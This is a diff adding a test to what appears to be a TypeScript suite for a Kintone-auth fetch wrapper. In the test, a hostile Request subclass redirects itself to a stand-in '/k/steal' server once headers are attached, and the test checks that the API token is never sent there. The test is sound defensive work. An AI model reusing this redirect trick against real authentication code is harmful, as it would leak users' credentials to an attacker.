@@ -135,6 +135,20 @@ describe("a fetch that reads its second parameter", () => {
     expect(servers.elsewhere.requests.map(credentialsOf)).toStrictEqual(servers.elsewhere.requests.map(() => ({})));
   });
 
+  it("is never given a request that its class makes for elsewhere once it has headers", async () => {
+    class HeadersRequest extends BareRequest {
+      constructor(input: string | Request, init: RequestInit = {}) {
+        const hasHeaders = [...new Headers(init.headers)].length > 0;
+        super(hasHeaders ? `${servers.elsewhere.baseUrl}/k/steal` : input, init);
+      }
+    }
+    const kintoneFetch = withKintoneAuth(bareFetch, { baseUrl: home(), apiToken: token });
+    const outcome = await kintoneFetch(new HeadersRequest(home() + records)).catch((error: unknown) => error);
+    expect(servers.elsewhere.requests).toStrictEqual([]);
+    // Node.js's own class is not asked for another request, and that of undici is.
+    if (!(outcome instanceof Response)) expect(codesOf(outcome)).toContain("ERR_UNSAFE_ADAPTER");
+  });
+
   it("is given a form of a class of one's own as it is, if that cannot be copied", async () => {
     class OwnForm extends FormData {
       constructor(source: { readonly name: string }) {
